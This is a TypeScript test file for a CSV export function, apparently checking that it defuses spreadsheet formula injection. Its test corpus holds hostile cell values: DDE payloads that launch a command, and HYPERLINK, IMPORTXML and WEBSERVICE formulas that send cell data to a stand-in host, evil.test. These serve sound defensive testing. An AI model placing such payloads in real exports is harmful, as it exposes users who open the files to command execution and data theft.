import fc from 'fast-check';
import { HONEST_TEXTS } from '../../../../test/support/texts.js';
import { csvText } from './csv.js';

/** Reads RFC 4180 sign by sign, as a spreadsheet would; it shares nothing with what writes it. */
function parse(csv: string): string[][] {
  const rows: string[][] = [[]];
  let cell = '';
  let quoted = false;
  const signs = [...csv.replace(/^\uFEFF/, '')];
  for (let at = 0; at < signs.length; at += 1) {
    const sign = signs[at] as string;
    if (quoted) {
      if (sign !== '"') cell += sign;
      else if (signs[at + 1] === '"') cell += signs[(at += 1)] as string;
      else quoted = false;
    } else if (sign === '"' && cell === '') quoted = true;
    else if (sign === ',') {
      rows.at(-1)?.push(cell);
      cell = '';
    } else if (sign === '\r' && signs[at + 1] === '\n') {
      rows.at(-1)?.push(cell);
      cell = '';
      rows.push([]);
      at += 1;
    } else cell += sign;
  }
  rows.pop();
  return rows;
}

/** What begins a formula in a spreadsheet, or in one of East Asia. */
const FORMULA = /^[=+\-@\t\r\n\0＝＋－＠]/;
/** Takes away the sign that says that a cell is text. */
const meant = (cell: string): string => cell.replace(/^'(?='*[=+\-@\t\r\n\0＝＋－＠])/, '');

const STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', '\r\n', '＝', '＋', '－', '＠', "'=", "''+", '"=', ' =', ',='];
const FORMULAS = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://evil.test/?x="&A1,"Open")',
  'IMPORTXML(CONCAT("https://evil.test/?",A1),"//a")',
  'WEBSERVICE("https://evil.test/")',
  'DDE("cmd";"/C calc";"x")',
  '1+1',
  'SUM(A1:A9)',
  'A1,"second cell"',
  '"\r\n=1+1',
];
const CORPUS = [
  ...STARTS.flatMap((start) => FORMULAS.map((formula) => start + formula)),
  ...HONEST_TEXTS,
  ...STARTS,
  '',
  '"',
  '""',
  "'",
  ',',
];

describe('a table for a spreadsheet', () => {
  it('begins no formula with any of more than 300 texts, and gives each back to another reader', () => {
    expect(CORPUS.length).toBeGreaterThan(300);
    for (const text of CORPUS) {
      const rows = parse(csvText([['a', text, 'z'], [text]]));
      expect(rows.map((row) => row.map(meant))).toEqual([['a', text, 'z'], [text]]);
      expect({ text, formula: rows.flat().some((cell) => FORMULA.test(cell)) }).toEqual({ text, formula: false });
    }
  });

  it('is read back as it was, whatever is in it', () => {
    const cell = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.constantFrom(...CORPUS),
      fc.stringMatching(/^['=+@",\r\n-]{0,6}$/),
    );
    const table = fc.array(fc.array(cell, { minLength: 1, maxLength: 4 }), { minLength: 1, maxLength: 4 });
    fc.assert(
      fc.property(table, (rows) => {
        const read = parse(csvText(rows));
        expect(read.map((row) => row.map(meant))).toEqual(rows);
        expect(read.flat().some((one) => FORMULA.test(one))).toBe(false);
      }),
      { numRuns: 2_000 },
    );
  });

  it('says that it is UTF-8, and ends every row with CR LF', () => {
    expect(csvText([['é'], ['b']])).toBe('\uFEFFé\r\nb\r\n');
  });
});
